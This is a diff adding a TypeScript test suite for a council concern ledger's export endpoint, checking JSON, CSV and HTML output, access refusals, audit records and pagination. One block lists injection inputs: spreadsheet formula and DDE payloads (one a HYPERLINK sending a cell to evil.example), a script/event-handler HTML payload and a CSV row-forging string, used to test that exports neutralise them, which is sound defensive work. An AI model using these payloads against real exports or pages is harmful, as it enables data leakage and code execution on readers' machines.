@@ -1,0 +1,483 @@
+// The ledger exported: JSON, CSV and a page hold the same and all of it; what is in it can break out of none of them; nobody gets another
+// council's; and what cannot be put on record does not leave.
+import { parse as parseCsv } from "csv-parse/sync";
+import { getNamedType, isObjectType, TypeInfo, visit, visitWithTypeInfo } from "graphql";
+import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from "vitest";
+import { LogUnavailable } from "../../event-log/port.ts";
+import type { Held } from "../../graphql/export/collect.ts";
+import { DOCUMENT } from "../../graphql/export/document.ts";
+import { buildSchema } from "../../graphql/schema.ts";
+import { startHub, type TestHub } from "../support/hub.ts";
+import { carryOut } from "./carry-out.ts";
+import { awareness, concern, proposal, TARROWSHIRE } from "./examples.ts";
+import { OPERATIONS } from "./operations.ts";
+import { type Story, startStory } from "./story-steps.ts";
+
+const schema = buildSchema();
+const FORMATS = ["json", "csv", "html"] as const;
+
+type Exported = { readonly status: number; readonly headers: Headers; readonly text: string };
+async function exported(hub: TestHub, person: string, body: object | string, path = "/ledger"): Promise<Exported> {
+  const headers = { "content-type": "application/json", authorization: `Bearer ${await hub.token(person)}` };
+  const sent = typeof body === "string" ? body : JSON.stringify(body);
+  const response = await fetch(`${hub.url}${path}`, { method: "POST", body: sent, headers });
+  // Byte order marks count, and `text()` drops them.
+  const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await response.arrayBuffer());
+  return { status: response.status, headers: response.headers, text };
+}
+const heldBy = async (hub: TestHub, person: string, more: object = {}): Promise<Held> =>
+  JSON.parse((await exported(hub, person, { council: TARROWSHIRE, format: "json", ...more })).text);
+const cellsOf = (text: string): readonly (readonly string[])[] => parseCsv(text, { bom: true });
+const asText = (page: string): string =>
+  page
+    .replace(/<[^>]*>/g, "\u0000")
+    .replace(/&(amp|lt|gt|quot|#39);/g, (_, name: string) => ({ amp: "&", lt: "<", gt: ">", quot: '"', "#39": "'" })[name] ?? "");
+
+describe("The document of an export", () => {
+  /** Look-ups in public reference, and what stands elsewhere in the export. */
+  const LEFT_OUT = new Set([
+    ...["Council", "Body", "Region", "PageInfo"],
+    // The reader exports as the council, which has no body; and its disclosures stand in the ledger's own list.
+    ...["Concern.sharedWithMe", "Concern.disclosures"],
+    // They are all of the one council.
+    ...["Support.council", "AlignedSupport.council", "PracticeContact.council"],
+  ]);
+  const WHERE_TO_START = [
+    ...[
+      "Ledger",
+      "Concern",
+      "Disclosure",
+      "StandingAgreement",
+      "ConversationLead",
+      "Approach",
+      "PracticeContact",
+      "AlignedSupport",
+    ],
+    ...["Support", "Submission", "Signal"],
+  ];
+
+  it("asks for every field of a concern and of whatever else a ledger holds, so that none is left out when one is added", () => {
+    const asked = new Set<string>();
+    const types = new TypeInfo(schema);
+    visit(
+      DOCUMENT,
+      visitWithTypeInfo(types, { Field: () => void asked.add(`${types.getParentType()?.name}.${types.getFieldDef()?.name}`) }),
+    );
+    const [missing, met, toLookAt] = [[] as string[], new Set<string>(), [...WHERE_TO_START]];
+    for (let name = toLookAt.pop(); name !== undefined; name = toLookAt.pop()) {
+      const type = schema.getType(name);
+      if (!isObjectType(type) || met.has(name) || LEFT_OUT.has(name)) continue;
+      met.add(name);
+      for (const field of Object.values(type.getFields())) {
+        const full = `${name}.${field.name}`;
+        if (LEFT_OUT.has(full)) continue;
+        if (asked.has(full)) toLookAt.push(getNamedType(field.type).name);
+        else missing.push(full);
+      }
+    }
+    expect(missing).toEqual([]);
+    expect(met.size).toBeGreaterThan(30);
+  });
+
+  it("has fields for everything that a council holds beside its concerns", () => {
+    const fields = Object.keys((schema.getType("Council") as { getFields?(): object } | undefined)?.getFields?.() ?? {});
+    const known = "code name type region from until successors invented concerns standingAgreements";
+    expect(fields.toSorted()).toEqual(
+      `${known} supports alignedSupport conversationLead approaches practiceContacts`.split(" ").toSorted(),
+    );
+  });
+});
+
+describe("An export of a ledger in which everything has happened", () => {
+  let hub: TestHub;
+  let files: Readonly<Record<(typeof FORMATS)[number], Exported>>;
+  let held: Held;
+  let before: readonly Recorded[];
+
+  beforeAll(async () => {
+    hub = await startHub();
+    await carryOut(hub, OPERATIONS);
+    before = await disclosuresOf(hub);
+    const json = await exported(hub, "chief-executive", { council: TARROWSHIRE, format: "json" });
+    const csv = await exported(hub, "chief-executive", { council: TARROWSHIRE, format: "csv" });
+    files = { json, csv, html: await exported(hub, "chief-executive", { council: TARROWSHIRE, format: "html" }) };
+    held = JSON.parse(json.text);
+  }, 120_000);
+  afterAll(() => hub?.close());
+
+  it("is a file that nobody keeps on the way, under a name that tells nothing", () => {
+    const kinds = { json: "application/json", csv: "text/csv", html: "text/html" };
+    for (const format of FORMATS) {
+      const { status, headers } = files[format];
+      expect(status).toBe(200);
+      expect(headers.get("content-type")).toBe(`${kinds[format]}; charset=utf-8`);
+      expect(headers.get("content-disposition")).toBe(`attachment; filename="candour-ledger-2026-07-01.${format}"`);
+      expect(headers.get("cache-control")).toBe("no-store");
+    }
+  });
+
+  it("holds as many concerns, entries and disclosures as it says, and each concern's events without a gap", () => {
+    const { totals, concerns, disclosures, ofCouncil } = held;
+    expect(totals).toEqual({
+      concerns: concerns.length,
+      historyEntries: concerns.flatMap(({ history }) => history ?? []).length,
+      disclosures: disclosures.length,
+      standingAgreements: ofCouncil?.standingAgreements.length,
+      approaches: ofCouncil?.approaches.length,
+      practiceContacts: ofCouncil?.practiceContacts.length,
+      supports: ofCouncil?.supports.length,
+      submissions: ofCouncil?.submissions.length,
+      signals: ofCouncil?.signals.length,
+    });
+    expect(Object.values(totals).every((total) => total > 0)).toBe(true);
+    for (const { version, history } of concerns) expect(history?.map(({ number }) => number)).toEqual(oneTo(version ?? 0));
+  });
+  const oneTo = (last: number) => Array.from({ length: last }, (_, at) => at + 1);
+
+  it("holds every concern and every disclosure that the ledger over GraphQL does", async () => {
+    const { body } = await hub.ask<{ ledger: { concerns: { nodes: { id: string; version: number }[] } } }>(
+      "chief-executive",
+      `{ ledger(council: "${TARROWSHIRE}") { ... on Ledger { concerns(first: 100) { nodes { id version } } } } }`,
+    );
+    expect(held.concerns.map(({ id, version }) => ({ id, version }))).toEqual(body.data.ledger.concerns.nodes);
+    const ids = new Set(held.disclosures.map(({ id }) => id));
+    expect(before.length).toBeGreaterThan(50);
+    expect(before.filter(({ id }) => !ids.has(id))).toEqual([]);
+  });
+
+  it("has a row in CSV for every event, disclosure and thing of the council, and says the same totals", () => {
+    const [heads = [], ...rows] = cellsOf(files.csv.text);
+    const records = rows.map((row) => Object.fromEntries(heads.map((head, at) => [head, row[at] ?? ""])));
+    const of = (kind: string) => records.filter(({ record }) => record === kind);
+    const events = held.concerns.flatMap(({ id, history }) => history?.map(({ number, at }) => `${id} ${number} ${at}`) ?? []);
+    expect(
+      of("event")
+        .map(({ concern, number, when }) => `${concern} ${number} ${when}`)
+        .toSorted(),
+    ).toEqual(events.toSorted());
+    expect(of("disclosure").length).toBeGreaterThanOrEqual(held.disclosures.length);
+    const named = new Set(of("disclosure").map(({ id }) => id));
+    expect(held.disclosures.filter(({ id }) => !named.has(id))).toEqual([]);
+    expect(
+      of("total")
+        .map(({ text }) => Number(text))
+        .slice(0, 2),
+    ).toEqual(Object.values(held.totals).slice(0, 2));
+    // Whatever the parts hold was met by the event that put it there.
+    expect(of("part of a concern")).toEqual([]);
+    const times = records.filter(({ record }) => record !== "about" && record !== "total").map(({ when }) => when ?? "");
+    expect(times).toEqual(times.toSorted());
+  });
+
+  it("tells in CSV who proposed what to whom, for what, until when, and what the council said", () => {
+    const [heads = [], ...rows] = cellsOf(files.csv.text);
+    const objected = rows.find((row) => row[heads.indexOf("what")] === "The council objected to a share") ?? [];
+    const cell = (head: string) => objected[heads.indexOf(head)];
+    expect(["by", "to", "parts", "until", "text"].map(cell)).toEqual([
+      "Maren Tolliver (invented) (chief-executive)",
+      "Children's Improvement Board regional leads, East Midlands (cib-east-midlands)",
+      "Headline; Summary",
+      "2026-06-30",
+      "It was asked for.",
+    ]);
+  });
+
+  it("says on the page and in CSV every text, name and id that stands in JSON", () => {
+    const { csv, html } = files;
+    const cells = cellsOf(csv.text)
+      .flat()
+      .map((cell) => cell.replace(/^'/, ""))
+      .join("\u0000");
+    const page = asText(html.text);
+    const texts = new Set(textsIn({ ...held, scope: held.scope }));
+    expect(texts.size).toBeGreaterThan(150);
+    expect([...texts].filter((text) => !cells.includes(text))).toEqual([]);
+    // Entries of the council's lists and disclosures are told there without their running ids.
+    const running = new Set(held.disclosures.map(({ id }) => id));
+    expect([...texts].filter((text) => !page.includes(text) && !running.has(text) && !isConcern(text))).toEqual([]);
+  });
+  const isConcern = (text: string) => held.concerns.some(({ id }) => id === text);
+
+  /** Every text that somebody wrote, and every name and id; policies in words stand once in the page and by id elsewhere. */
+  function textsIn(value: unknown): readonly string[] {
+    if (typeof value === "string") return value && !isWordedElsewise(value) ? [value] : [];
+    if (Array.isArray(value)) return value.flatMap(textsIn);
+    if (typeof value !== "object" || value === null) return [];
+    const { effect, reason, challenge, ...rest } = value as Record<string, unknown>;
+    return Object.values(effect === undefined ? value : rest).flatMap(textsIn);
+  }
+  const isWordedElsewise = (text: string) =>
+    /^[A-Z][A-Z0-9_]*$/.test(text) || /^\d{4}-\d\d-\d\d(T|$)/.test(text) || /^E12/.test(text);
+
+  it("is a page of one piece that runs and fetches nothing, in headings that follow each other, and lists what policies say", () => {
+    const { text, headers } = files.html;
+    expect(text).toMatch(/^<!doctype html>\n<html lang="en-GB">/);
+    expect(text).not.toMatch(/<script|<link|<img|<iframe|\s(src|href|style|on\w+)=|@import|url\(/i);
+    const policy = headers.get("content-security-policy");
+    expect(policy).toMatch(/^default-src 'none'; style-src 'sha256-[\w+/=]+'; .*sandbox$/);
+    const levels = [...text.matchAll(/<h([1-6])>/g)].map(([, level]) => Number(level));
+    expect(levels.filter((level, at) => level > (levels[at - 1] ?? 0) + 1)).toEqual([]);
+    expect(text.match(/<th /g)?.length).toBe(text.match(/<th scope="(col|row)">/g)?.length);
+    expect(text).toContain("@page");
+    const page = asText(text);
+    for (const { audience } of held.concerns)
+      for (const policies of audience?.flatMap(({ parts }) => parts.map((part) => part.policies)) ?? [])
+        for (const { reason, challenge } of policies) for (const said of [reason, challenge ?? ""]) expect(page).toContain(said);
+  });
+
+  it("summarises who has it now and who opened it, and tells times as they are in England", () => {
+    const page = asText(files.html.text);
+    const live = held.concerns.flatMap(({ sharingRecord }) => sharingRecord ?? []).filter(({ status }) => status === "LIVE");
+    expect(live.length).toBeGreaterThan(0);
+    const first = page.slice(page.indexOf("Who has it now"), page.indexOf("Who opened it"));
+    for (const { body } of live) expect(first).toContain(body.name);
+    expect(page).toContain("1 July 2026 at 13:00:00 BST");
+  });
+
+  it("is on record as an export, to its reader in their office, before they have it", async () => {
+    const { disclosures, concerns } = held;
+    const exports = disclosures.filter(({ surface }) => surface === "EXPORT");
+    expect(new Set(exports.map(({ concern }) => concern))).toEqual(new Set(concerns.map(({ id }) => id)));
+    for (const { person, capacities } of exports)
+      expect([person.id, capacities.map(({ role }) => role)]).toEqual(["chief-executive", ["CHIEF_EXECUTIVE"]]);
+    // It leaves in no other way: what was read of the ledger before is all that stands as that.
+    const readBefore = before.filter(({ surface }) => surface === "LEDGER").map(({ id }) => id);
+    expect(disclosures.filter(({ surface }) => surface === "LEDGER").map(({ id }) => id)).toEqual(readBefore);
+  });
+
+  it("of a past moment holds the ledger as it was and nothing else, and says so", async () => {
+    const past = await heldBy(hub, "chief-executive", { at: "2026-03-02T12:00:00.000Z" });
+    expect(past).toMatchObject({ at: "2026-03-02T12:00:00.000Z", isOfThePast: true, ofCouncil: null });
+    expect(past.scope.join(" ")).toContain("It tells of a past moment, and holds the ledger alone");
+    expect(past.totals.historyEntries).toBeLessThan(held.totals.historyEntries ?? 0);
+    for (const { history } of past.concerns)
+      for (const { at } of history ?? []) expect(at <= "2026-03-02T12:00:00.000Z").toBe(true);
+    const { text } = await exported(hub, "chief-executive", { council: TARROWSHIRE, format: "html", at: past.at });
+    expect(asText(text)).toContain("Who had it then");
+  });
+});
+
+type Recorded = { readonly id: string; readonly surface: string };
+async function disclosuresOf(hub: TestHub): Promise<readonly Recorded[]> {
+  const { body } = await hub.ask<{ ledger: { disclosures: { nodes: Recorded[] } } }>(
+    "chief-executive",
+    `{ ledger(council: "${TARROWSHIRE}") { ... on Ledger { disclosures(first: 100) { nodes { id surface } } } } }`,
+  );
+  return body.data.ledger.disclosures.nodes;
+}
+
+describe("What is in a ledger breaks out of no format", () => {
+  const NASTY = [
+    '=HYPERLINK("http://evil.example/?"&A1;"x")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "</dd></dl><script>alert(1)</script><b onmouseover='x'>&lt;\"'",
+    'He said "no", then\r\n=1+1\r\n","forged","cells"',
+  ];
+  let story: Story;
+  beforeAll(async () => {
+    story = await startStory();
+    for (const text of NASTY)
+      await story.does("adviser", "recordAwareness", {
+        ...{ ...awareness, toldName: text.slice(0, 100), about: text, bodies: [proposal.body], toldOn: "2026-03-02" },
+        concern: await story.does("adviser", "logConcern", { ...concern, summary: text, observed: text }),
+      });
+    const name = "=cmd()<script>\"'&";
+    const { people } = story.hub.services;
+    await people.execute("registerPerson", { person: "nasty", name }, story.hub.asHub("nasty"));
+    const lasting = { from: "2020-01-01", until: "2039-12-31" };
+    const officer = { person: "nasty", role: "nominated-officer", council: TARROWSHIRE, ...lasting };
+    await people.execute("startAssignment", officer, story.hub.asHub("nasty-assignment"));
+    await story.asks("nasty", "{ concerns { nodes { id } } }");
+  });
+  afterAll(() => story?.close());
+
+  it("CSV: no cell is a formula, each row has as many as the heading, and behind the apostrophe is what was written", async () => {
+    const { text } = await exported(story.test, "chief-executive", { council: TARROWSHIRE, format: "csv" });
+    expect(text.startsWith('\uFEFF"record","when",')).toBe(true);
+    expect(text.endsWith("\r\n")).toBe(true);
+    const rows = cellsOf(text);
+    expect(new Set(rows.map(({ length }) => length)).size).toBe(1);
+    expect(rows.flat().filter((cell) => /^\s*[=+\-@]/.test(cell))).toEqual([]);
+    expect(rows.flat().some((cell) => cell.startsWith("'=cmd()<script>\"'& (nasty)"))).toBe(true);
+    const cells = rows.flat().join("\u0000");
+    for (const said of NASTY) expect(cells).toContain(said);
+  });
+
+  it("HTML: what was written is text, and the page has no element that is not its own", async () => {
+    const { text } = await exported(story.test, "chief-executive", { council: TARROWSHIRE, format: "html" });
+    expect(text).not.toMatch(/<script|<b |onmouseover='x'>/);
+    const page = asText(text);
+    for (const said of NASTY) expect(page).toContain(said);
+    expect(page).toContain("=cmd()<script>\"'& (nasty)");
+    const elements = new Set([...text.matchAll(/<([a-z0-9]+)/g)].map(([, name]) => name));
+    const own =
+      "html head meta title style body main section h1 h2 h3 h4 h5 h6 p strong table caption thead tbody tr th td dl div dt dd span";
+    expect([...elements].filter((name) => !own.split(" ").includes(name ?? ""))).toEqual([]);
+  });
+});
+
+describe("An export is refused", () => {
+  let story: Story;
+  let hub: TestHub;
+  const good = { council: TARROWSHIRE, format: "json" };
+  beforeAll(async () => {
+    story = await startStory();
+    hub = story.test;
+    await story.awareConcern([proposal.body]);
+  });
+  afterAll(() => story?.close());
+  afterEach(() => vi.restoreAllMocks());
+  const codeOf = ({ text }: Exported): unknown => JSON.parse(text).errors[0].extensions.code;
+
+  it.each(
+    "adviser second-adviser cib-lead department panel-member advisory-board governance-officer administrator leader-ambleford nobody".split(
+      " ",
+    ),
+  )("for %s, who is not of the council, like one of a council that is not there", async (person) => {
+    const refused = await exported(hub, person, good);
+    const unknown = await exported(hub, person, { ...good, council: "X99999999" });
+    expect([refused.status, codeOf(refused)]).toEqual([404, "NOT_FOUND"]);
+    expect(refused.text).toBe(unknown.text);
+    expect(unknown.status).toBe(404);
+    // Neither is a moment looked at.
+    expect((await exported(hub, person, { ...good, at: "2001-01-01T00:00:00Z" })).text).toBe(refused.text);
+  });
+
+  it("without a token, and with anything but POST, before anything is read", async () => {
+    const headers = { "content-type": "application/json" };
+    expect((await fetch(`${hub.url}/ledger`, { method: "POST", body: "{", headers })).status).toBe(401);
+    const got = await fetch(`${hub.url}/ledger?council=${TARROWSHIRE}&format=json`);
+    expect([got.status, got.headers.get("allow")]).toEqual([405, "POST"]);
+  });
+
+  it("in another form than the one wanted, which it names", async () => {
+    for (const body of [
+      "{",
+      "[]",
+      {},
+      { council: TARROWSHIRE },
+      { ...good, format: "pdf" },
+      { ...good, at: "yesterday" },
+      { ...good, at: 5 },
+    ]) {
+      const refused = await exported(hub, "chief-executive", body);
+      expect([refused.status, codeOf(refused)]).toEqual([400, "BAD_REQUEST"]);
+      expect(refused.text).toContain("format");
+    }
+    const headers = { "content-type": "text/plain", authorization: `Bearer ${await hub.token("chief-executive")}` };
+    expect((await fetch(`${hub.url}/ledger`, { method: "POST", body: JSON.stringify(good), headers })).status).toBe(415);
+    expect((await exported(hub, "chief-executive", { ...good, more: "x".repeat(1_100_000) })).status).toBe(413);
+    expect((await exported(hub, "chief-executive", good, "/ledger/more")).status).toBe(404);
+  });
+
+  it.each([
+    ["before the hub began", "2001-01-01T00:00:00Z", "BEFORE_HUB_BEGAN"],
+    ["that lies in the future", "2099-01-01T00:00:00Z", "NOT_YET"],
+  ])("for a moment %s", async (_, at, code) => {
+    const refused = await exported(hub, "chief-executive", { ...good, at });
+    expect([refused.status, codeOf(refused)]).toEqual([400, code]);
+    expect(JSON.parse(refused.text).errors[0].extensions.field).toBe("at");
+  });
+
+  it.each(FORMATS)("as %s when nothing can be put on record; and is given once it can", async (format) => {
+    // Past the hour in which the same views are on record already.
+    story.on(`2026-03-1${FORMATS.indexOf(format)}`);
+    const append = vi.spyOn(hub.hub.disclosures, "append").mockRejectedValue(new LogUnavailable("It could not be written."));
+    const refused = await exported(hub, "chief-executive", { ...good, format });
+    expect([refused.status, codeOf(refused)]).toEqual([503, "UNAVAILABLE"]);
+    expect(refused.text).not.toContain(concern.summary);
+    expect(refused.headers.get("content-disposition")).toBeNull();
+    append.mockRestore();
+    expect((await exported(hub, "chief-executive", { ...good, format })).text).toContain(concern.summary);
+  });
+
+  it("when its pages do not fit each other, rather than leave something out", async () => {
+    const { log } = hub.hub;
+    const readStream = log.readStream.bind(log);
+    vi.spyOn(log, "readStream").mockImplementation(async (stream, ...more) => (await readStream(stream, ...more)).slice(0, -1));
+    const refused = await exported(hub, "chief-executive", good);
+    expect([refused.status, codeOf(refused)]).toEqual([503, "NOT_READY"]);
+    expect(refused.text).not.toContain(concern.summary);
+  });
+
+  it("when a resolver fails, in one sentence that tells nothing", async () => {
+    vi.spyOn(hub.hub.log, "readStream").mockRejectedValue(new Error("secret"));
+    const refused = await exported(hub, "chief-executive", good);
+    expect([refused.status, codeOf(refused)]).toEqual([500, "INTERNAL"]);
+    expect(refused.text).not.toContain("secret");
+    expect(hub.logged.join("")).not.toContain("secret");
+  });
+
+  it("for who has one made for them already", async () => {
+    const { log } = hub.hub;
+    const readStream = log.readStream.bind(log);
+    const [begun, ready] = [Promise.withResolvers<void>(), Promise.withResolvers<void>()];
+    vi.spyOn(log, "readStream").mockImplementation(async (...asked) => {
+      begun.resolve();
+      await ready.promise;
+      return readStream(...asked);
+    });
+    const first = exported(hub, "chief-executive", good);
+    await begun.promise;
+    const refused = await exported(hub, "chief-executive", good);
+    expect([refused.status, codeOf(refused)]).toEqual([429, "BUSY"]);
+    const other = exported(hub, "nominated-officer", good);
+    ready.resolve();
+    expect([(await first).status, (await other).status]).toEqual([200, 200]);
+    expect((await exported(hub, "chief-executive", good)).status).toBe(200);
+  });
+});
+
+describe("An export of more than a page", () => {
+  let story: Story;
+  beforeAll(async () => {
+    story = await startStory();
+  });
+  afterAll(() => story?.close());
+
+  it("holds every concern and disclosure once", async () => {
+    const ids: string[] = [];
+    for (let n = 0; n < 23; n += 1) ids.push(await story.awareConcern([proposal.body]));
+    for (const day of ["03", "04", "05", "06", "09", "10"]) {
+      story.on(`2026-03-${day}`);
+      await story.asks("second-adviser", "{ concerns(first: 100) { nodes { id } } }");
+    }
+    const { concerns, disclosures, totals } = await heldBy(story.test, "chief-executive");
+    expect(concerns.map(({ id }) => id)).toEqual(ids.toReversed());
+    expect(disclosures.length).toBeGreaterThan(23 * 6);
+    expect(new Set(disclosures.map(({ id }) => id)).size).toBe(disclosures.length);
+    expect(totals).toMatchObject({ concerns: 23, disclosures: disclosures.length });
+  });
+
+  it("of a moment before the council was made aware of a concern is whole without it", async () => {
+    const at = "2026-03-02T12:00:00.000Z";
+    const late = await story.does("adviser", "logConcern", { ...concern, strand: "ADULTS" });
+    story.on("2026-03-11");
+    await story.seen("second-adviser", late);
+    story.on("2026-03-12");
+    await story.does("adviser", "recordAwareness", { ...awareness, concern: late, bodies: [], toldOn: "2026-03-12" });
+    const then = { at: "2026-03-11T13:00:00.000Z" };
+    expect((await heldBy(story.test, "chief-executive", then)).concerns.map(({ id }) => id)).not.toContain(late);
+    const page = await exported(story.test, "chief-executive", { council: TARROWSHIRE, format: "html", ...then });
+    expect(page.status).toBe(200);
+    expect((await heldBy(story.test, "chief-executive", { at })).concerns.length).toBe(23);
+  });
+
+  it("is read as the council alone, by an adviser who speaks for it too", async () => {
+    const unaware = await story.does("adviser", "logConcern", concern);
+    const { people } = story.hub.services;
+    const lasting = { from: "2020-01-01", until: "2039-12-31" };
+    const officer = { person: "second-adviser", role: "nominated-officer", council: TARROWSHIRE, ...lasting };
+    await people.execute("startAssignment", officer, story.hub.asHub("two-hats"));
+    expect(await story.sees("second-adviser", unaware)).not.toBeNull();
+    const { concerns, disclosures } = await heldBy(story.test, "second-adviser");
+    expect(concerns.length).toBe(24);
+    expect(JSON.stringify([concerns, disclosures])).not.toContain(unaware);
+    expect(concerns.every(({ withheld }) => (withheld as string[]).includes("PROTECTED_SOURCE"))).toBe(true);
+    const own = disclosures.filter(({ surface, person }) => surface === "EXPORT" && person.id === "second-adviser");
+    expect(own.flatMap(({ capacities }) => capacities.map(({ role }) => role))).not.toContain("SENIOR_ADVISER");
+    expect(own.length).toBe(24);
+  });
+});
